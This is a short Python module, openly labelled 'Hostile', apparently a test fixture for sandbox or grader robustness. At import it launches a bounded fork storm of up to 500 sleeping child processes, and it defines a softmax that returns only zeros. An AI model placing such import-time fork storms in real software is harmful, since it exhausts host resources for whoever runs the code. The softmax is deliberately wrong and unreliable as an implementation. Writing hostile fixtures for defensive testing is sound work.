"""Hostile: a bounded fork storm at import: up to 500 children that each sleep 600 s.
The error when fork is refused is not caught, so the import fails."""
import os
import time

import numpy as np

for _ in range(500):
    if os.fork() == 0:
        try:
            time.sleep(600)
        finally:
            os._exit(0)      # a child never runs the rest of the module


def softmax(x, axis=-1):
    return np.zeros_like(x)
